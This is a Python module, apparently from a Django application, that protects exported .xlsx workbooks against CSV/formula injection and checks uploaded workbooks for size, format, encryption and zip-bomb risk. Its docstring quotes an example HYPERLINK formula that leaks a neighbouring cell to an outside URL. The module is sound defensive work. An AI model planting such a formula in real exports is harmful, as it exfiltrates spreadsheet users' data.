"""Saving the .xlsx workbooks the product writes, with stored text kept as text.

A spreadsheet takes a cell starting with `=` for a formula, and Excel also takes `+`, `-` and `@`
when such a cell is edited (a tab or a carriage return in front hides any of them). A staff name
such as `=HYPERLINK("http://…?leak="&C2,"…")` would then run in the reader's spreadsheet and send
the neighbouring cells away (CSV/formula injection, OWASP). Every workbook is saved through
`workbook_bytes`, which keeps such text a text cell marked with Excel's quote prefix: it shows
exactly the stored text, stays text when edited, and reads back unchanged (our staff import too).
None of our workbooks writes a formula of its own, so every formula cell found here came from text.

A workbook cannot hold most control characters (openpyxl refuses them, and the whole export would
fail); stored text may still have one (a form feed pasted into a form), so writers put text in cells
through `workbook_text`, which turns them into spaces.

Every upload read as a workbook (the staff list, the timetable, an instrument) first goes through
`upload_read` and `xlsx_check`: an oversized, empty, old-format, password-protected, damaged or
zip-bomb file is refused by its bytes, with one message each, before openpyxl sees it.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def workbook_text(value):
    """`value` as a cell may hold it: text without control characters (each becomes a space); any
    other value unchanged."""
    return ILLEGAL_CHARACTERS_RE.sub(" ", value) if isinstance(value, str) else value


def cell_as_text(cell: Cell) -> None:
    """Keep the text of `cell` as text when a spreadsheet could read it as a formula."""
    value = cell.value
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        cell.data_type = "s"
        cell.quotePrefix = True


def workbook_bytes(workbook: Workbook) -> bytes:
    """The .xlsx file of `workbook`, every text that looks like a formula kept as text."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cell_as_text(cell)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


_ZIP_MAGIC = b"PK\x03\x04"
_OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# An encrypted OOXML file is an OLE2 compound file holding these streams (names in UTF-16LE).
_ENCRYPTED_STREAM = "EncryptedPackage".encode("utf-16-le")


@dataclass(frozen=True)
class UploadLimits:
    """What one kind of workbook may weigh, and what its uploader is told when it weighs more."""

    max_bytes: int
    max_unpacked_bytes: int
    too_large: Callable[[], str]
    unpacked_too_large: Callable[[], str]
    error: type[Exception]  # raised with the message as its only argument


def upload_read(upload, limits: UploadLimits) -> bytes:
    """The bytes of an uploaded file, refusing an oversized one before reading it."""
    size = getattr(upload, "size", None)
    if size is not None and size > limits.max_bytes:
        raise limits.error(limits.too_large())
    if hasattr(upload, "seek"):
        upload.seek(0)
    data = upload.read(limits.max_bytes + 1)
    if len(data) > limits.max_bytes:
        raise limits.error(limits.too_large())
    return data


def not_xlsx_message() -> str:
    return _(
        "The file is not an Excel workbook (.xlsx). If it is a CSV or another format, open it in Excel "
        "and save it as Excel Workbook (.xlsx)."
    )


def corrupt_message() -> str:
    return _("The file is damaged and cannot be read. Open it in Excel, check it and save it again as .xlsx.")


def xlsx_check(data: bytes, limits: UploadLimits) -> None:
    """Refuse what is not a readable .xlsx by its bytes, before openpyxl sees it."""
    error = limits.error
    if not data:
        raise error(_("The file is empty."))
    if len(data) > limits.max_bytes:
        raise error(limits.too_large())
    if data.startswith(_OLE2_MAGIC):
        if _ENCRYPTED_STREAM in data:
            raise error(
                _(
                    "The file is protected with a password. Open it in Excel, remove the password "
                    "(File › Info › Protect Workbook › Encrypt with Password) and save it again as .xlsx."
                )
            )
        raise error(
            _("This is an old Excel 97-2003 file (.xls). Open it in Excel and save it as Excel Workbook (.xlsx).")
        )
    if not data.startswith(_ZIP_MAGIC):
        raise error(not_xlsx_message())
    try:
        with zipfile.ZipFile(BytesIO(data)) as archive:
            members = archive.infolist()
    except (zipfile.BadZipFile, zipfile.LargeZipFile, ValueError, OSError):
        raise error(corrupt_message()) from None
    # zipfile never inflates a member past its declared size, so the declared sum bounds the work.
    if sum(m.file_size for m in members) > limits.max_unpacked_bytes:
        raise error(limits.unpacked_too_large())
    if not any(m.filename.startswith("xl/") for m in members):
        raise error(not_xlsx_message())
